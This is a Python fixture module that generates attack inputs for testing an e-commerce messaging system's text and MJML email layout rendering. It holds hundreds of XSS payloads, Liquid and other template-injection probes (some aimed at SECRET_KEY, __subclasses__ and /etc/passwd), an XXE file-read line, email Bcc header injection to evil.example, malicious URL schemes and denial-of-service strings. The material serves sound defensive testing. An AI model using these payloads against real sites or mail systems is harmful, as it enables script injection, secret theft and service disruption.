"""What an attacker would write as a text, as a layout and as a name: whole families of it, put together from their parts."""

from __future__ import annotations

from itertools import product

from ecommerce_comms.messaging.writing.texts import Text

_BS = "\\"
SCRIPTS = [
    "<script>alert(1)</script>", "<ScRiPt/x>alert(1)</sCrIpT >", "<script\n>alert(1)//", "<<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)//", "<img src=x\x0conerror=alert(1)>", "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script href=data:,alert(1) />", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a>", "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href='javascript:alert(1)'>x</math>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<base href=//evil.example/>", "<form action=//evil.example>",
    "<button formaction=javascript:alert(1)>x", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>",
    "<body onload=alert(1)>", "<html onclick=alert(1)>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css'</style>",
    "<style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>", "<xmp><img src=x onerror=alert(1)></xmp>", "<plaintext>",
    "<listing>&lt;img onerror",
    "<title><img src=x onerror=alert(1)></title>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "</script><script>alert(1)</script>", "--><script>alert(1)</script>",
    "<!--><script>alert(1)</script>",
    "<!-- --!><script>alert(1)</script> -->", "<![CDATA[><script>alert(1)</script>]]>", "<?xml x?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", "\"><script>alert(1)</script>", "'><script>alert(1)</script>",
    "\" onmouseover=alert(1) x=\"", "' onmouseover='alert(1)", "` onmouseover=alert(1)", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "&amp;lt;script&amp;gt;alert(1)", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cscript\\x3ealert(1)", "＜script＞alert(1)＜/script＞", "﹤script﹥alert(1)",
    "<a href=javascript:alert(1)>x</a>", "<a href='java\tscript:alert(1)'>x</a>", "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<p style=\"background:url(javascript:alert(1))\">x", "<p style=\"width:expression(alert(1))\">x", "<bdi dir=rtl onclick=alert(1)>x",
    "<span style=\"position:fixed;inset:0;z-index:9\">x</span>", "<isindex action=javascript:alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<x onclick=alert(1)>", "<a\u00a0onclick=alert(1)>", "<\u0130mg src=x>", "<\u017fcript>alert(1)</\u017fcript>",
    "<\x00script>alert(1)</script>",
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java&#9;script:alert(1))", "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](vbscript:msgbox(1))", "[x](\x01javascript:alert(1))",
    "[x](//evil.example)", "[x](\\\\evil.example)", "[x](https:evil.example)", "[x](http:\\evil.example)", "[x](file:///etc/passwd)",
    "[x](ftp://evil.example/x)", "[x](blob:https://shop.example/1)", "[x](intent://x#Intent;end)", "[x](ms-word:ofe|u|//evil.example)",
    "[x](sms:+190012345)", "[x](view-source:https://x.example)", "<javascript:alert(1)>", "<data:text/html,x>",
    "![x](https://evil.example/p.gif)",
    "![x](javascript:alert(1))", "[x]: javascript:alert(1)\n[x]", "[a]: <javascript:alert(1)> 't'\n[a][a]", "[x](<javascript:alert(1)>)",
    "[x](https://e.example \"t' onclick=alert(1)\")", "[x](https://e.example \"t\\\" onclick=alert(1)\")",
    "[\"><script>](https://e.example)",
    "[x](https://e.example/\"onclick=alert(1))", "[x](https://e.example/'><script>)", "[<b>x</b>](https://e.example)", "`<script>`",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```", "    <script>alert(1)</script>",
    "<https://e.example/\"><script>alert(1)</script>>",
    "***<u onclick=alert(1)>***", "1. <script>\n2. x", "> <script>alert(1)</script>", "# <script>alert(1)</script>", "x\n===<script>",
]
"""Ways to a script, or to somewhere else, in HTML and in Markdown."""
LIQUID = [
    "{{ 7 | times: 7 }}", "{{ order.number | append: '<script>alert(1)</script>' }}", "{{ '<script>alert(1)</script>' }}",
    "{{ \"<img src=x onerror=alert(1)>\" }}", "{% capture x %}<script>{% endcapture %}{{ x }}",
    "{% assign x = '<b>' %}{{ x }}{{ x | upcase }}",
    "{{ '{{ shop.name }}' }}", "{{ '{%' }} if true %}", "{% raw %}{{ shop.name }}{% endraw %}", "{% raw %}<script>{% endraw %}",
    "{{ '&lt;script&gt;' | replace: '&lt;', '<' }}", "{% capture x %}&lt;script&gt;{% endcapture %}{{ x | replace: 'l', 'l' }}",
    "{{ customer.__class__ }}", "{{ customer.__class__.__mro__[1].__subclasses__ }}", "{{ ''.__class__ }}", "{{ order['__init__'] }}",
    "{{ order.keys }}", "{{ order.items }}", "{{ order.pop }}", "{{ self }}", "{{ settings.SECRET_KEY }}", "{{ request.user.password }}",
    "{{ config }}", "{{ env }}", "{{ forloop }}", "{{ tablerowloop }}", "{{ template }}", "{{ page }}", "{{ content_for_header }}",
    "{{ now }}",
    "{{ 'now' | date: '%s' }}", "{{ 'x' | safe }}", "{{ 'x' | raw }}", "{{ 'x' | url_decode }}", "{{ '%3Cscript%3E' | url_decode }}",
    "{{ 'PHNjcmlwdD4=' | base64_decode }}", "{{ 'x' | t }}", "{{ 'x' | eval }}", "{{ order | json }}", "{{ order | inspect }}",
    "{{ order.lines | map: 'title' | join: '<br>' }}", "{% include 'x' %}", "{% render '/etc/passwd' %}", "{% layout 'x' %}",
    "{% extends 'x' %}",
    "{% load static %}", "{% debug %}", "{% now 'Y' %}", "{% ssi '/etc/passwd' %}", "{% csrf_token %}", "{% url 'admin:index' %}",
    "{% liquid\nassign x = 1\necho x %}", "{% echo 'x' %}", "{% increment x %}", "{% tablerow x in order.lines %}x{% endtablerow %}",
    "{% macro x %}{% endmacro %}{% call x %}", "{% with x %}", "{% ifchanged %}x{% endifchanged %}", "{% doc %}{% enddoc %}",
    "{% section 'x' %}", "{% schema %}{}{% endschema %}", "{% javascript %}alert(1){% endjavascript %}", "{% style %}x{% endstyle %}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "<?php echo 7*7 ?>", "*{7*7}", "@(7*7)", "{{= 7*7 }}", "{7*7}", "{{7*'7'}}", "{{{7*7}}}", "[[7*7]]",
    "[[body]]", "[[sheet]]", "%(number)s", "{0.__class__}", "{name.__class__.__init__.__globals__}", "$(id)", "`id`", "{!order.total!}",
    "{{ order.number | divided_by: 0 }}", "{{ 1 | modulo: 0 }}", "{{ 10 | times: 99999999999999999999 }}", "{{ -1 | times: 1e308 }}",
    "{{ 1e999999999 }}", "{{ 1e99 | ceil }}", "{{ '1e400000000' | plus: 1 }}", "{{ '1e400000000' | ceil }}", "{{ '1e4000000' | floor }}",
    "{{ '1e4000000' | round }}", "{{ 0.1 | round: 999999999 }}", "{{ 'NaN' | times: 1 }}", "{{ 'Infinity' | round }}", "{{ 'inf' | ceil }}",
    "{{ '9' | times: '1e1000000' }}", "{{ 'x' | truncate: -1 }}", "{{ 'x' | truncate: 9999999999999 }}", "{{ 'x' | truncatewords: 1e10 }}",
    "{{ 'x' | slice: -99999999999, 99999999999 }}", "{{ 'abc' | split: '' | join: 'xxxxxxxxxxxx' }}", "{{ nil | first }}",
    "{{ 1 | first }}",
    "{{ 'x' | where: 'a', 'b' }}", "{{ order.lines | where: 'title' | first }}", "{{ order.lines | sort: 'title' | reverse | last }}",
    "{{ order | sort }}", "{{ order.lines | compact: 'x' | size }}", "{{ order.lines[0][0][0] }}", "{{ order.lines[-1] }}",
    "{{ order.lines[999999999999999999999] }}", "{{ order['a']['b'] }}", "{{ ['order']['number'] }}", "{{ [customer.first_name] }}",
    "{{ [[['order']]] }}", "{{ order[order[order[order.number]]] }}", "{{ order.lines.first.title.size.first }}", "{{ nil.x.y }}",
    "{{ true.x }}",
    "{{ empty }}", "{{ blank }}", "{{ -}}", "{{- -}}", "{{}}", "{{ . }}", "{{ .. }}", "{{ a..b }}", "{{ a.b. }}", "{{ | }}", "{{ |x }}",
    "{{ x| }}",
    "{{ x || y }}", "{{ x | append: }}", "{{ x | append: 1, 2, 3 }}", "{{ x | append: a: 1 }}", "{{ 'x' | default: allow_false: true }}",
    "{{ \"a' }}", "{{ 'a\" }}", "{{ '}}' }}", "{{ '%}' }}", "{% assign x = '%}' %}{{ x }}", "{% assign = 1 %}", "{% assign x %}",
    "{% assign customer = 'x' %}{{ customer.name }}", "{% assign order = order.number %}{{ order }}",
    "{% capture order %}x{% endcapture %}",
    "{% if %}x{% endif %}", "{% if x %}", "{% endif %}", "{% else %}", "{% if x %}{% else %}{% else %}{% endif %}",
    "{% if a == %}x{% endif %}",
    "{% if order.number > 'a' %}x{% endif %}", "{% if order.lines > 1 %}x{% endif %}", "{% if order contains 'x' %}x{% endif %}",
    "{% if 'x' contains order %}x{% endif %}", "{% if nil < 1 %}x{% endif %}", "{% if 1 < 'x' %}x{% endif %}",
    "{% if a and b or c and d %}{% endif %}",
    "{% unless x %}{% elsif y %}{% endunless %}", "{% case x %}{% endcase %}", "{% case %}{% when 1 %}{% endcase %}",
    "{% case x %}y{% when 1 %}z",
    "{% for x in order %}{{ x }}{% endfor %}", "{% for x in 'abc' %}{{ x }}{% endfor %}", "{% for x in customer %}{{ x[0] }}{% endfor %}",
    "{% for x in (1..999999999) %}x{% endfor %}", "{% for x in (-999999999999..999999999999) limit: 1 %}x{% endfor %}",
    "{% for x in (1..'999999999') %}x{% endfor %}", "{% for x in (1..1e9) %}x{% endfor %}", "{% for x in (1..order.number) %}x{% endfor %}",
    "{% for x in (1..1000) %}{% for y in (1..1000) %}{% for z in (1..1000) %}x{% endfor %}{% endfor %}{% endfor %}",
    "{% for x in (1..1000) offset: 99999999999 %}x{% endfor %}", "{% for x in order.lines limit: -1 %}x{% endfor %}",
    "{% for x in order.lines limit: 'x' %}x{% endfor %}", "{% for x in order.lines offset: continue %}x{% endfor %}",
    "{% for x in order.lines reversed %}{% break %}{% continue %}{% endfor %}", "{% break %}", "{% continue %}", "{% for x %}{% endfor %}",
    "{% for forloop in order.lines %}{{ forloop }}{% endfor %}",
    "{% for x in order.lines %}{{ forloop.parentloop.parentloop }}{% endfor %}",
    "{% cycle %}", "{% cycle 'a', 'b' %}", "{% cycle order: 'a', 'b' %}{% cycle order: 'a', 'b' %}", "{% cycle x: order.lines, customer %}",
    "{% comment %}{% endcomment %}", "{% comment %}{{ x", "{% comment %}{% comment %}{% endcomment %}", "{% # x %}", "{% raw %}",
    "{% endraw %}",
    "{% raw %}{% raw %}{% endraw %}{% endraw %}", "{%- raw -%} {{ x }} {%- endraw -%}", "{%raw%}{{{%endraw%}", "{", "{{", "{%", "}}",
    "%}", "{{ {{ x }} }}",
    "{% if {{ x }} %}x{% endif %}", "{{ x }", "{ { x } }", "{\\{ shop.name }}", "{&#123; shop.name }}", "{<!-- -->{ shop.name }}",
    "{**{ shop.name }}**",
    "[x]({{ order.url }}javascript:alert(1))", "[x](javascript:{{ order.number }})", "[x]({{ 'javascript:alert(1)' }})",
    "[x](java{{ '' }}script:alert(1))", "[x]({{ customer.first_name }})", "[x]({% if true %}javascript:alert(1){% endif %})",
    "[x]({{ order.url | replace: 'https', 'javascript' }})", "[x]({{ order.url }}\" onclick=\"alert(1))",
    "[x](https://e.example/{{ customer.name }})",
    "[x](https://{{ customer.first_name }}.evil.example)", "[x]({{ shop.url }}@evil.example)",
    "{% capture l %}[x](javascript:a){% endcapture %}{{ l }}",
    "{% capture t %}**x**{% endcapture %}{{ t | slice: 0, 5 }}{{ t | slice: 5, 9 }}",
    "{% capture t %}**x**{% endcapture %}{{ t | split: '>' | first }}",
    "{% capture t %}[x](https://e.example){% endcapture %}{{ t | replace: 'https:', 'javascript:' }}",
    "{% capture t %}**x**{% endcapture %}{{ t | replace: 'strong', 'script' }}", "{% capture t %}**x**{% endcapture %}{{ t | reverse }}",
    "{% capture t %}<i>{% endcapture %}{{ t | append: '<script>' }}", "{% capture t %}x{% endcapture %}{{ '<script>' | append: t }}",
    "{% capture t %}x{% endcapture %}{{ t | prepend: '<script>' | strip }}", "{% capture a %}<{% endcapture %}{{ a }}script{{ a }}",
    "lq0z", "lqq1z lq0z {{ shop.name }}", "l&#113;0z {{ shop.name }}", "l**q**0z {{ shop.name }}", "lq\\0z",
    "\u202e{{ shop.name }}\u202c", "\u2028\u2029",
    "\ud800", "\x00", "\x1b[31m", "\r\n", "\r\nBcc: x@evil.example\r\n\r\nx", "=?utf-8?q?=0D=0ABcc:_x@evil.example?=", "\ufeff",
    "\ufffe\uffff",
]
"""What Liquid, and what other languages of templates, would do."""
HEAVY = [
    "(" * 3_000, "[" * 5_000, "[" * 2_000 + "](" * 2_000, "*" * 5_000, "*a_ " * 3_000, "> " * 3_000 + "x", "- " * 3_000 + "x", "`" * 5_000,
    "".join("`" * n + " " for n in range(140)), "<" * 5_000, "<a " * 4_000, "<!--" * 4_000, "<?" * 5_000, "&" * 5_000, "&#" * 5_000,
    "\\" * 5_000,
    "a" * 19_000, "\n" * 19_000, " " * 19_000 + "x", "x \n" * 6_000, "1. x\n" * 4_000, "# x\n" * 4_000, "![[]()" * 3_000, "[a](<b" * 3_000,
    "[x](" + "(" * 30 + "x" + ")" * 30 + ")", "**x** " * 3_000, "~~x~~" * 3_000, "x\n=\n" * 4_000, "|x|\n|-|\n" * 2_000, "***" * 5_000,
    "".join(f"{'  ' * n}- x\n" for n in range(130)), "_a*b" * 4_000, "\u0301" * 9_000, "\U0001f469\u200d" * 4_000, "\u202e" * 9_000,
    "{{ shop.name }}" * 900, "{{ shop.name }}" * 1_200, "{{ x" + " | upcase" * 100 + " }}", "{{ x | append: '" + "a" * 900 + "' }}",
    "{% if x %}" * 60 + "{% endif %}" * 60, "{% if " + " and ".join(["x"] * 190) + " %}x{% endif %}", "{{ " + "a." * 400 + "b }}",
    "{{ a" + "[a" * 300 + "]" * 300 + " }}", "{{ a" + "['b']" * 180 + " }}", "{% assign x = 'aaaaaaaaaa' %}"
    + "{% assign x = x | append: x %}" * 200 + "{{ x }}",
    "{% assign x = 'aaaaaaaaaa' %}" + "{% assign x = x | replace: 'a', 'aaaaaaaaaa' %}" * 50 + "{{ x }}",
    "{% for a in (1..1000) %}{{ order.lines | sort: 'title' | join: 'x' | upcase }}{% endfor %}",
    "{% for a in (1..1000) %}{% assign x = x | append: 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' %}{% endfor %}{{ x }}",
    "{% for a in (1..1000) %}{% capture x %}{{ x }}{{ x }}a{% endcapture %}{% endfor %}",
    "{% for a in (1..30) %}{% for b in (1..30) %}" * 6 + "x",
    "{% for a in (1..1000) %}aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa{% endfor %}", "{% case x %}" + "{% when 1 %}x" * 900
    + "{% endcase %}",
    "{% cycle " + ", ".join(["'a'"] * 190) + " %}" * 1, "{{ '" + "a," * 450
    + "' | split: ',' | sort | reverse | join: 'aaaaaaaaaaaaaaaaaaaa' }}",
    "{% raw %}" + "{{" * 5_000 + "{% endraw %}", "{% comment %}" + "{{" * 3_000 + "{% endcomment %}", "{{" + " " * 5_000 + "}}", "{%"
    + "\n" * 5_000 + "if x %}",
    "{% if x %}" + "{% elsif x %}" * 900 + "{% endif %}", "{{ " + "(" * 400 + " }}", "{{ '" + "\\" * 800 + "' }}", "{{ " + "-" * 900
    + "1 }}", "{{ " + "9" * 900 + " }}",
    "{{ '" + "9" * 900 + "' | plus: 1 }}", "{{ '" + "9" * 900 + "' | times: '" + "9" * 90 + "' }}", "{% assign x = 999999999999999 %}"
    + "{% assign x = x | times: x %}" * 40,
    "{{ x | default: '" + "a" * 900 + "' | split: '' | reverse | join: '' | size }}",
    "{% for a in (1..1000) %}{% for b in (1..1000) %}{% break %}{% endfor %}{% endfor %}",
    "{% for a in (1..70) %}{% for b in (1..70) %}{{ 'a' | split: '' | sort | join: '' | replace: 'a', 'b' | truncatewords: 3 }}"
    "{% endfor %}{% endfor %}",
]
"""What would cost time or memory."""


def texts() -> list[Text]:
    """Every attack as a body, and the short ones also in every other part."""
    everything = [*SCRIPTS, *LIQUID]
    found = [Text(subject="x", body=each) for each in [*everything, *HEAVY]]
    found += [
        Text(
            subject=f"s {each}", preview=f"p {each}", heading=f"h {each}", body=f"b {each} {{{{ order.number }}}}", action=f"a {each}",
            short=f"t {each}",
        ) for each in everything
    ]
    return found + [Text(subject=each[:600], preview=each[:600], heading=each[:400], body="x", action=each[:200],
    short=each[:1500]) for each in HEAVY]


NEEDED = "".join(f"[[{each}]]" for each in ("heading", "greeting", "body", "window", "button", "tracking", "items", "address", "footer"))


def layout(inside: str = "", *, text: str = "", head: str = "", body: str = "") -> str:
    """A layout that is right but for what is put into it."""
    return (f"<mjml><mj-head>{head}</mj-head><mj-body {body}><mj-section><mj-column><mj-text>{NEEDED}{text}"
            f"</mj-text></mj-column></mj-section>{inside}</mj-body></mjml>")


ADDRESSES = [
    "javascript:alert(1)", "JaVaScript:alert(1)", "java\tscript:alert(1)", "java&#9;script:alert(1)", "java&#10;script:alert(1)",
    "&#1;javascript:alert(1)",
    "&#x6A;avascript:alert(1)", "jav&#x61script:alert(1)", " javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:x", "//evil.example/x",
    "\\\\evil.example", "/\\evil.example", "file:///etc/passwd", "ftp://evil.example/", "blob:https://x.example/", "filesystem:https://x",
    "view-source:x",
    "feed:javascript:alert(1)", "livescript:x", "mocha:x", "about:blank", "chrome://settings", "intent://x", "x\" onerror=\"alert(1)",
    "x&quot; onerror=&quot;alert(1)",
    "x&#34;&#62;&#60;script&#62;alert(1)&#60;/script&#62;", "x'><script>alert(1)</script>",
    "https://e.example/&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "java\u200bscript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)", "&Tab;javascript:alert(1)",
]
HOLDERS = [
    ('<mj-section><mj-column><mj-image alt="x" src="', '"/></mj-column></mj-section>'),
    ('<mj-section><mj-column><mj-image alt="x" src="https://e.example/x" href="', '"/></mj-column></mj-section>'),
    ('<mj-section><mj-column><mj-button href="', '">x</mj-button></mj-column></mj-section>'), ('<mj-section background-url="',
    '"></mj-section>'),
    ('<mj-section><mj-column><mj-text><a href="', '">x</a></mj-text></mj-column></mj-section>'), ('<mj-raw><a href="', '">x</a></mj-raw>'),
    ('<mj-raw><img alt="x" src="', '"></mj-raw>'), ('<mj-section><mj-column><mj-social><mj-social-element name="web" href="',
    '">x</mj-social-element></mj-social></mj-column></mj-section>'),
    ('<mj-section><mj-column><mj-image src="https://e.example/x" alt="', '"/></mj-column></mj-section>'), ('<mj-section css-class="',
    '"></mj-section>'),
    ('<mj-hero mode="fluid-height" background-url="', '"></mj-hero>'), ('<mj-section><mj-column><mj-navbar><mj-navbar-link href="',
    '">x</mj-navbar-link></mj-navbar></mj-column></mj-section>'),
    ('<mj-section><mj-column><mj-button background-color="', '">x</mj-button></mj-column></mj-section>'),
    ('<mj-section><mj-column><mj-text font-family="', '">x</mj-text></mj-column></mj-section>'),
]


WELL_FORMED = [
    "<svg></svg>", "<math></math>", "<input/>", "<video></video>", "<audio src=\"https://e.example/x\"></audio>", "<button>x</button>",
    "<textarea></textarea>",
    "<select></select>", "<details></details>", "<template></template>", "<noscript></noscript>", "<xmp></xmp>",
    "<plaintext></plaintext>", "<frameset></frameset>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\"/>", "<META HTTP-EQUIV=\"Refresh\" content=\"0\"/>", "<isindex/>",
    "<applet></applet>",
    "<p srcdoc=\"x\">x</p>", "<p formaction=\"x\">x</p>", "<a xlink:href=\"javascript:x\">x</a>",
    "<img alt=\"x\" src=\"https://e.example/x\" onload=\"alert(1)\"/>",
    "<title>x</title>", "<portal></portal>", "<noembed></noembed>", "<p\x0conclick=\"alert(1)\">x</p>", "<P ONCLICK=\"alert(1)\">x</P>",
]


def layouts() -> list[str]:
    """Every attack as a layout."""
    tags = [each for each in SCRIPTS if each[0] in "<\"'&-`%\\＜﹤"]
    tags += WELL_FORMED
    found = [layout(text=each) for each in tags] + [layout(f"<mj-raw>{each}</mj-raw>") for each in tags]
    found += [layout(head=f"<mj-raw>{each}</mj-raw>") for each in tags]
    found += [layout(head=f"<mj-style>{each}</mj-style>") for each in tags[:60]]
    found += [layout(head=f"<mj-title>{each}</mj-title>") for each in tags[:60]]
    found += [layout(head=f"<mj-preview>{each}</mj-preview>") for each in tags[:60]]
    found += [layout(head=f"<mj-font name='x' href=\"{each}\"/>") for each in ADDRESSES]
    found += [layout(start + each + end) for each, (start, end) in product(ADDRESSES, HOLDERS)]
    found += [layout(body=f'background-color="{each}"') for each in ADDRESSES]
    return found + [layout(text=each) for each in LIQUID if "[[" not in each] + [layout(text=each) for each in HEAVY]
